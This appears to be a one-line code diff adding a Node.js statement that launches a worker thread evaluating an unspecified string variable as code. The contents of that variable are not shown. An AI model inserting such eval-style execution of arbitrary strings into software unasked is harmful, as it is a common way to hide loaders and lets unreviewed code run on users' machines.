@@ -1,0 +1,1 @@
+const {Worker}=require('worker_threads'); new Worker(x,{eval:true})
